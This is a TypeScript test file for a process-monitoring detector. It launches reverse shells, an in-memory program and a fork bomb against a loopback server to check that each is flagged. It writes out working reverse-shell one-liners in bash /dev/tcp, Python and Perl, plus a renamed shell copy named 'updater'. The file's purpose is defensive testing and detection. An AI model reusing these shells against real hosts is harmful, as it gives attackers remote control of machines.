import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { copyFileSync, existsSync, mkdtempSync, rmSync } from "node:fs";
import { createServer, type AddressInfo, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test, type TestContext } from "node:test";
import type { Evidence } from "../core/action.ts";
import { createImmuneColony } from "../immune/colony.ts";
import { snapshotProcesses } from "../senses/snapshot.ts";
import { staticProgram } from "../senses/static-program.fixture.ts";
import { heaviest, LiveColony, onStage } from "./live-colony.fixture.ts";
import { PUPPET } from "./puppet.fixture.ts";

const SHELL = "/bin/bash";

/** The colony at light depth, and a remote hand on loopback. */
class ProcessStage {
  readonly dir = mkdtempSync(join(tmpdir(), "swarms-process-agents-"));
  readonly puppet: string;
  private readonly colony = new LiveColony(createImmuneColony({ leaseMs: 1000 }), 4 << 20, snapshotProcesses());
  private readonly server: Server;

  constructor(puppet: string, server: Server) {
    this.puppet = join(this.dir, "puppet");
    this.server = server;
    copyFileSync(puppet, this.puppet);
  }

  get port(): string {
    return String((this.server.address() as AddressInfo).port);
  }

  /** Runs a command; then evidence of the kind on it and its descendants, once there is some so heavy, or after half a second. */
  async run(kind: string, least: number, path: string, ...args: string[]): Promise<readonly Evidence[]> {
    const child = spawn(path, args, { stdio: "ignore", timeout: 15_000 });
    await once(child, "exit");
    assert.ok(child.pid !== undefined);
    return this.colony.evidenceOf(child.pid, kind, 50, least);
  }

  async close(): Promise<void> {
    await this.colony.close();
    this.server.close();
    rmSync(this.dir, { recursive: true, force: true, maxRetries: 10 });
  }
}

/** Whoever connects is told to run two programs and to end. */
async function remoteHand(): Promise<Server> {
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.on("data", () => undefined);
    socket.end("id\n/bin/uname\nexit\n");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return server;
}

function live(t: TestContext, look: (stage: ProcessStage) => Promise<void>): Promise<void> {
  return onStage(t, newStage, look);
}

async function newStage(): Promise<ProcessStage | string> {
  const puppet = staticProgram(PUPPET);
  return puppet === undefined ? "needs a C compiler with a static libc" : new ProcessStage(puppet, await remoteHand());
}

const PYTHON = (port: string): string =>
  `import socket,os,subprocess
s=socket.create_connection(("127.0.0.1",${port}))
[os.dup2(s.fileno(),n) for n in (0,1,2)]
subprocess.call(["/bin/sh","-i"])`;
const PERL = (port: string): string =>
  `use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(${port},inet_aton("127.0.0.1")));
open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`;

/** Command, its arguments, and the least weight of what is told of it. */
const SHELLS: Readonly<
  Record<string, (stage: ProcessStage) => readonly [least: number, path: string, ...args: string[]]>
> = {
  "bash and /dev/tcp": ({ port }) => [0.9, SHELL, "-c", `${SHELL} --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`],
  python: ({ port }) => [0.9, "/usr/bin/python3", "-c", PYTHON(port)],
  perl: ({ port }) => [0.9, "/usr/bin/perl", "-e", PERL(port)],
  "a program of one's own with dup2": ({ port, puppet }) => [0.9, puppet, "dup2", port, "/bin/sh"],
  "a shell fed through pipes by a relay": ({ port, puppet }) => [0.6, puppet, "pipes", port],
  "halves of a connection": ({ port }) => [
    0.8,
    SHELL,
    "-c",
    `exec 5<>/dev/tcp/127.0.0.1/${port}; cat <&5 | while read line; do $line 2>&5 >&5; done`,
  ],
};

for (const [name, command] of Object.entries(SHELLS))
  test(`live reverse shell: ${name}`, { timeout: 60_000 }, (t) =>
    live(t, async (stage) => {
      const [least, path, ...args] = command(stage);
      if (!existsSync(path)) return t.skip(`needs ${path}`);
      const found = await stage.run("reverse-shell", least, path, ...args);
      assert.ok(heaviest(found) >= least, JSON.stringify(found));
    }),
  );

test("live reverse shell: a renamed copy of a shell, by what it runs", { timeout: 60_000 }, (t) =>
  live(t, async (stage) => {
    const copy = join(stage.dir, "updater");
    copyFileSync("/bin/dash", copy);
    const found = await stage.run("reverse-shell", 0.9, stage.puppet, "dup2", stage.port, copy);
    assert.ok(heaviest(found) >= 0.9, JSON.stringify(found));
  }),
);

test(
  "live: a program in memory is hidden, a pipeline and a connecting program are neither hidden nor a shell",
  { timeout: 60_000 },
  (t) =>
    live(t, async (stage) => {
      const [memory] = await stage.run("hidden", 0.5, stage.puppet, "memfd", "/bin/true");
      assert.deepEqual([memory?.weight, memory?.techniques], [0.8, ["T1620"]]);
      assert.deepEqual(await stage.run("hidden", 0.5, SHELL, "-c", "ls / | cat | sort >/dev/null"), []);
      const fetch = `exec 5<>/dev/tcp/127.0.0.1/${stage.port}; read line <&5; echo $line | cat >/dev/null; sh -c 'id | cat'`;
      assert.deepEqual(await stage.run("reverse-shell", 0.5, SHELL, "-c", fetch), []);
    }),
);

test(
  "live: 127 copies in seven generations are a fork bomb, 120 workers of one parent are not",
  { timeout: 60_000 },
  (t) =>
    live(t, async (stage) => {
      const bomb = await stage.run("fork-bomb", 0.7, stage.puppet, "tree");
      assert.ok(heaviest(bomb) >= 0.7, JSON.stringify(bomb));
      assert.deepEqual(await stage.run("fork-bomb", 0.7, stage.puppet, "pool"), []);
    }),
);
